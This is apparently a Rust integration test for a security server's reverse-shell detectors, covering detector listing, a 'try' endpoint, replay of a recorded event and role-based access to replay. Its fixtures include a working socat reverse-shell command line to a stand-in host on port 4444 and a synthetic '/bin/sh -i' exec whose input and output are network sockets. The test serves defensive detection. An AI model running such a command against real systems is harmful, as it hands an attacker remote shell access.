//! The detectors of a real server, and its bench.

use probe_abi::{RecordDescriptor, RecordExec, RecordHeader, RecordKind, RecordProcess};
use sensor::{Made, RecordTo, Recorder};
use serde_json::{Value, json};

use crate::stage::Stage;

const SECOND: u64 = 1_000_000_000;

/// A shell whose input and output are a connection.
fn shell() -> Vec<u8> {
    let socket = |number| RecordDescriptor::connection(number, 77, 40_001, ([192, 0, 2, 7], 4_444));
    let header =
        RecordHeader { length: 0, kind: RecordKind::Exec, time_ns: SECOND, cgroup: 42, pid: 11, cpu: 0 };
    RecordExec {
        executable_inode: 11,
        descriptors: vec![socket(0), socket(1), socket(2)],
        path: b"dash\0bin\0usr\0".to_vec().into(),
        cgroup: b"session-1.scope\0user.slice\0".to_vec().into(),
        arguments: b"/bin/sh\0-i\0".to_vec().into(),
        ..RecordExec::of(header, RecordProcess { pid: 11, start_ns: SECOND })
    }
    .write()
}

fn recording(stage: &Stage) -> Vec<u8> {
    let path = stage.folder().join("day.rec");
    let made =
        Made { boot_id: "boot".into(), boot_time_nanos: 5, node: "node-7".into(), kernel: "6.1".into() };
    let mut recorder = Recorder::create(&RecordTo { path: path.clone(), overwrite: false }, &made).unwrap();
    recorder.write(&shell()).unwrap();
    recorder.finish().unwrap();
    std::fs::read(path).unwrap()
}

fn post(stage: &Stage, token: &str, bytes: &[u8]) -> (u16, Value) {
    let agent: ureq::Agent = ureq::Agent::config_builder().http_status_as_error(false).build().into();
    let request = agent
        .post(format!("http://{}/v2/detectors:replay", stage.api()))
        .header("Authorization", format!("Bearer {token}"))
        .header("Content-Type", "application/octet-stream");
    let mut response = request.send(bytes).unwrap();
    let text = response.body_mut().read_to_string().unwrap();
    (response.status().as_u16(), serde_json::from_str(&text).unwrap())
}

#[test]
fn detectors_are_listed_tried_and_rehearsed() {
    let stage = Stage::start("");
    let (status, list) = stage.send("GET", "/v2/detectors", &Value::Null);
    let modules: Vec<&str> =
        list["detectors"].as_array().unwrap().iter().map(|d| d["module"].as_str().unwrap()).collect();
    assert_eq!((status, modules), (200, vec!["SOCAT_REVERSE_SHELL_DETECTED", "REVERSE_SHELL"]));
    assert_eq!(list["detectors"][0]["techniques"], json!(["T1059.004", "T1059", "T1095"]));
    assert_eq!(list["detectors"][0]["cost"], Value::Null, "no sensor has said anything");

    let line = json!({"commandLine": "socat TCP:203.0.113.7:4444 EXEC:/bin/sh,pty"});
    let (status, tried) = stage.send("POST", "/v2/detectors:try", &line);
    let verdicts = tried["verdicts"].as_array().unwrap();
    assert_eq!((status, &verdicts[0]["verdict"]), (200, &json!("FOUND")), "{tried}");
    let conditions = verdicts[0]["conditions"].as_array().unwrap();
    assert!(conditions.iter().all(|condition| condition["state"] == "TRUE"), "{tried}");
    assert!(conditions[0]["reason"].as_str().unwrap().contains("assumed: it runs in a container"), "{tried}");

    let own = std::fs::read_to_string(stage.folder().join("data/token")).unwrap();
    let bytes = recording(&stage);
    let (status, replayed) = post(&stage, own.trim(), &bytes);
    assert_eq!((status, &replayed["records"]), (200, &json!("1")), "{replayed}");
    let finding = &replayed["findings"][0]["finding"];
    assert_eq!(
        (&finding["moduleName"], &finding["processes"][0]["pid"]),
        (&json!("REVERSE_SHELL"), &json!("11"))
    );
    assert_eq!(finding["vedette"]["story"]["routes"][0]["endpoint"]["peer"], "192.0.2.7:4444");
    let verdict = &replayed["verdicts"][0];
    assert_eq!((&verdict["pid"], &verdict["verdict"]), (&json!("11"), &json!("FOUND")), "{replayed}");
    assert_eq!(verdict["commandLine"], "/bin/sh -i");
    assert!(!stage.good(&["findings", "list"]).contains("Reverse Shell"), "nothing of it is stored");

    let (status, refused) = post(&stage, own.trim(), &bytes[..bytes.len() - 1]);
    assert_eq!((status, &refused["error"]["status"]), (400, &json!("INVALID_ARGUMENT")));
    assert!(refused["error"]["message"].as_str().unwrap().contains("is damaged at byte"), "{refused}");

    // a viewer of one project sees and tries; what was recorded is for investigators
    for (name, role, may_replay) in [("v", "viewer", false), ("i", "investigator", true)] {
        let bindings = json!({"bindings": [{"role": role, "parent": "projects/shop"}]});
        let (_, made) = stage.send("POST", &format!("/v2/organizations/-/tokens?tokenId={name}"), &bindings);
        let token = made["token"].as_str().unwrap();
        let (status, answer) = post(&stage, token, &bytes);
        assert_eq!(status, if may_replay { 200 } else { 403 }, "{answer}");
        let request = ureq::get(format!("http://{}/v2/detectors", stage.api()));
        let list = request.header("Authorization", format!("Bearer {token}")).call().unwrap();
        assert_eq!(list.status().as_u16(), 200);
    }
}
